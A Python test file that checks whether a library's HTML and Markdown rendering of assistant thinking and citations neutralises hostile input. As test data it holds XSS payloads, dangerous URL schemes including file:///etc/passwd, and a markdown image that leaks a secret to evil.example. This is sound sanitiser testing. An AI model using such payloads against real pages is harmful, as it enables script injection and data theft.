"""An answer's thinking and citations in text, HTML and Markdown: placed, folded, and safe
against hostile thinking, titles and URLs (answers built with that metadata directly)."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from lion_nb import AssistantResponse, Branch
from lion_nb.rendering.answer_parts import (
    answer_html,
    answer_markdown,
    citations,
    citations_text,
    safe_url,
    thinking_details_html,
    thinking_html,
    thinking_markdown,
    thinking_words,
)
from lion_nb.rendering.transcript import markdown_transcript

HOSTILE_THINKING = (
    "I will <script>window.pwned=1</script> and <img src=x onerror=alert(1)> then "
    "</details><iframe srcdoc='x'></iframe> [go](javascript:alert(1)) "
    "![t](https://evil.example/t.png?k=secret)"
)
HOSTILE_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/x",
    "https://",
    "http://exa mple.com/",
]
TEXT = "Paris is the capital. It has 2 million people."


def cite(n, end, **extra):
    return {
        "n": n,
        "title": f"Source {n}",
        "url": f"https://example.org/{n}",
        "cited_text": f"quote {n}",
        "kind": "web_search",
        "end": end,
        **extra,
    }


class _Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def tags(html: str) -> list[tuple[str, dict]]:
    parser = _Tags()
    parser.feed(html)
    return parser.tags


def assert_inert(html: str) -> None:
    for tag, attrs in tags(html):
        assert tag not in ("script", "iframe", "object", "embed", "style"), tag
        for name, value in attrs.items():
            assert not name.startswith("on") and name not in ("style", "srcdoc"), (tag, name)
            if name in ("href", "src"):
                assert value.startswith(("http://", "https://")), (tag, value)
        if tag == "img":
            assert attrs.get("src", "").startswith("data:image/"), attrs


def test_markers_go_after_their_characters_and_the_sources_are_listed_in_order():
    meta = {"citations": [cite(2, len(TEXT)), cite(1, len("Paris is the capital."))]}
    html = answer_html(TEXT, meta)
    assert 'capital.<sup class="lnb-cite">[1]</sup> It has' in html
    assert html.index("[1]</sup>") < html.index("[2]</sup>")
    listed = re.findall(r'<span class="lnb-cite-n">\[(\d)\]</span>', html)
    assert listed == ["1", "2"]
    links = [a for t, a in tags(html) if t == "a"]
    assert [a["href"] for a in links] == ["https://example.org/1", "https://example.org/2"]
    assert all(a["target"] == "_blank" and a["rel"] == "noopener noreferrer" for a in links)
    assert "(web search)" in html and "quote 1" in html


def test_a_citation_without_an_end_is_listed_with_no_marker():
    html = answer_html(TEXT, {"citations": [cite(1, None)]})
    assert "<sup" not in html and "Source 1" in html


def test_an_end_past_the_text_is_clamped_and_malformed_citations_are_skipped():
    meta = {"citations": [cite(1, 10_000), {"n": "2"}, "x", {"n": 0}, {"n": True}, cite(3, -5)]}
    assert [c["n"] for c in citations(meta)] == [1, 3]
    html = answer_html("Hi.", meta)
    assert html.startswith('<p><sup class="lnb-cite">[3]</sup>Hi.<sup class="lnb-cite">[1]</sup>')
    assert citations({"citations": "nope"}) == [] and citations(None) == []


def test_a_model_cannot_forge_a_marker():
    forged = "see \ue0009\ue001 here"
    html = answer_html(forged, {})
    assert "<sup" not in html and "[9]" not in html


@pytest.mark.parametrize("url", HOSTILE_URLS)
def test_only_http_urls_become_links(url):
    assert safe_url(url) is None
    meta = {"citations": [{"n": 1, "title": "Click me", "url": url, "kind": "url", "end": 3}]}
    html = answer_html(TEXT, meta)
    assert "<a " not in html and "Click me" in html
    assert_inert(html)
    md = answer_markdown(TEXT, meta)
    assert "](" not in md and url.strip() not in md.replace("\\", "")
    assert url not in citations_text(meta)


def test_hostile_titles_and_quotes_are_text():
    title = '<img src=x onerror=alert(1)>"><script>alert(2)</script>'
    meta = {
        "citations": [
            {
                "n": 1,
                "title": title,
                "url": 'https://ok.example/"onmouseover=x',
                "cited_text": "</q><script>alert(3)</script>",
                "kind": "document",
                "end": 4,
            }
        ]
    }
    html = answer_html(TEXT, meta)
    assert_inert(html)
    assert "&lt;script&gt;alert(2)" in html and "&lt;script&gt;alert(3)" in html
    (link,) = [a for t, a in tags(html) if t == "a"]
    assert link["href"] == 'https://ok.example/"onmouseover=x'  # one attribute, quoted
    md = answer_markdown(TEXT, meta)
    assert "<img" not in md and "<script" not in md
    assert "[1]" in md and "Sources:" in md


def test_markdown_sources_link_only_http_urls():
    meta = {
        "citations": [
            cite(1, 5),
            {
                "n": 2,
                "title": "Evil](javascript:x) [a",
                "url": "javascript:x",
                "kind": "url",
                "end": None,
            },
        ]
    }
    md = answer_markdown(TEXT, meta)
    assert md.startswith("Paris<sup>[1]</sup> is")
    assert "- [1] [Source 1](<https://example.org/1>) — “quote 1”" in md
    assert "- [2] Evil\\]\\(javascript:x\\) \\[a" in md
    assert answer_markdown(TEXT, {}) == TEXT


def test_hostile_thinking_is_sanitized_and_folded():
    html = thinking_details_html(thinking_html(HOSTILE_THINKING))
    assert html.startswith('<details class="lnb-thinking-static"><summary>Thinking</summary>')
    assert html.count("</details>") == 1 and " open" not in html
    assert_inert(html)
    assert "pwned" not in html or "&lt;script&gt;" in html
    md = thinking_markdown(HOSTILE_THINKING, 12.4)
    assert md.startswith("<details>\n<summary>Thought for 12 s</summary>")
    assert md.count("</details>") == 1 and "<script" not in md and "<img" not in md


def test_thinking_words():
    assert thinking_words(3.21) == "Thought for 3.2 s"
    assert thinking_words(42.6) == "Thought for 43 s"
    assert thinking_words(None) == thinking_words("3") == thinking_words(-1) == "Thought"


def test_the_markdown_export_folds_the_thinking_and_lists_the_sources():
    branch = Branch(name="b")
    branch.msgs.add_message(instruction="Where?")
    answer = AssistantResponse(
        response=TEXT,
        metadata={
            "thinking": "Think **hard** <b>x</b>",
            "thinking_seconds": 2.5,
            "citations": [cite(1, 5)],
        },
    )
    branch.msgs.add_message(assistant_response=answer)
    md = markdown_transcript(branch)
    block = md[md.index("## Assistant") :]
    assert "<details>\n<summary>Thought for 2.5 s</summary>\n\nThink **hard** &lt;b&gt;x" in block
    assert block.index("</details>") < block.index("Paris<sup>[1]</sup>")
    assert "- [1] [Source 1](<https://example.org/1>)" in block
